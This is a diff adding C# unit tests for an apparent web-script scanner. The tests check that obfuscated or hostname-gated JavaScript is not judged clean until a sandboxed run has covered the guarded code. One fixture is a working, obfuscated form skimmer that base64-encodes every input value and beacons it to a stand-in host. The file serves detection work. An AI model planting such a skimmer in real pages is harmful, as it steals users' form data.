@@ -1,0 +1,71 @@
+using PageShield.Detection;
+using PageShield.Detection.Detonation;
+using PageShield.Inventory;
+
+namespace PageShield.Tests.Detection;
+
+/// <summary>What reading cannot tell leaves no script clean, until a run has told it.</summary>
+public sealed class OpenQuestionTests
+{
+    private const string Hidden = """
+        var s = JSON.parse("[\"querySelectorAll\",\"input\",\"forEach\",\"value\",\"src\",\"https://tally.example/px.gif?d=\",\"addEventListener\",\"change\"]");
+        (function () { GATE function take() { var all = ''; document[s[0]](s[1])[s[2]](function (f) { all += f[s[3]] + '|' }); new Image()[s[4]] = s[5] + btoa(all) } document[s[6]](s[7], take, true) })();
+        """;
+
+    private static readonly ScriptJudge _rules = new([new StaticLayer()]);
+
+    [Theory]
+    [InlineData("")]
+    [InlineData("if (location.host.indexOf('tea-shop.example') < 0) return;")]
+    public void Words_that_cannot_be_read_on_the_page_are_not_clean(string gate)
+    {
+        var judgement = _rules.Judge(new ScriptToJudge { Source = Hidden.Replace("GATE", gate, StringComparison.Ordinal) });
+
+        Assert.NotEqual(VerdictKind.Clean, judgement.Verdict);
+    }
+
+    [Theory]
+    [InlineData("if (location.host.indexOf('tea-shop.example') < 0) return;")]
+    [InlineData("if (!/tea-shop\\.example$/.test(location.hostname)) { return }")]
+    [InlineData("if (document.domain != 'tea-shop.example') return;")]
+    [InlineData("if (btoa(location.hostname) !== 'dGVhLXNob3AuZXhhbXBsZQ==') return;")]
+    public void Code_that_runs_only_at_an_address_is_not_clean(string gate)
+    {
+        var source = $"(function () {{ {gate} {Filler} }})();";
+
+        var judgement = _rules.Judge(new ScriptToJudge { Source = source });
+
+        Assert.Equal(VerdictKind.Unknown, judgement.Verdict);
+        Assert.Contains(judgement.Findings, finding => finding.Rule == "runs-under-condition");
+        Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = $"(function () {{ {Filler} }})();" }).Verdict);
+    }
+
+    [Theory]
+    [InlineData("if (location.hostname === 'localhost') { console.log('development'); }")]
+    [InlineData("var secure = location.protocol === 'https:' ? 'secure' : '';")]
+    public void A_small_part_under_a_condition_leaves_the_rest_clean(string condition) =>
+        Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = $"(function () {{ {Filler} {condition} {Filler.Replace("total", "sum", StringComparison.Ordinal)} }})();" }).Verdict);
+
+    [Fact]
+    public void What_can_be_read_is_judged_by_what_it_says_under_any_condition() => Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge
+    {
+        Source = "if (location.href.indexOf('checkout') > -1) { var s = document.createElement('script'); s.src = 'https://www.googletagmanager.com/gtag/js?id=G-1234567'; s.async = true; document.head.appendChild(s); }",
+    }).Verdict);
+
+    [Fact]
+    public void A_run_that_got_into_the_guarded_code_answers_the_question_and_one_that_did_not_leaves_it()
+    {
+        var script = new ScriptToJudge { Source = $"(function () {{ if (location.host !== 'tea-shop.example') return; {Filler} }})();" };
+        var opinions = _rules.Examine(script);
+        var guarded = script.Source.IndexOf("return;", StringComparison.Ordinal) + "return;".Length;
+        var report = new DetonationReport { Version = "test", Shops = ["a shop"], Unrun = [] };
+
+        var answered = ScriptJudge.With(DetonationEvidence.After(opinions, report, script), script);
+        var left = ScriptJudge.With(DetonationEvidence.After(opinions, report with { Unrun = [new TextRange(guarded, script.Source.Length)] }, script), script);
+        var hung = ScriptJudge.With(DetonationEvidence.After(opinions, report with { Incomplete = "It hung." }, script), script);
+
+        Assert.Equal((VerdictKind.Clean, VerdictKind.Unknown, VerdictKind.Unknown), (answered.Verdict, left.Verdict, hung.Verdict));
+    }
+
+    private const string Filler = "var total = 0; for (var i = 0; i < 40; i++) { total += i * 3; } var names = ['count', 'label']; names.forEach(function (n, i) { window.cart[names[i]] = null; }); window.cart = { count: total, label: 'Your basket holds ' + total + ' things', update: function (n) { total = n; return total; } };";
+}
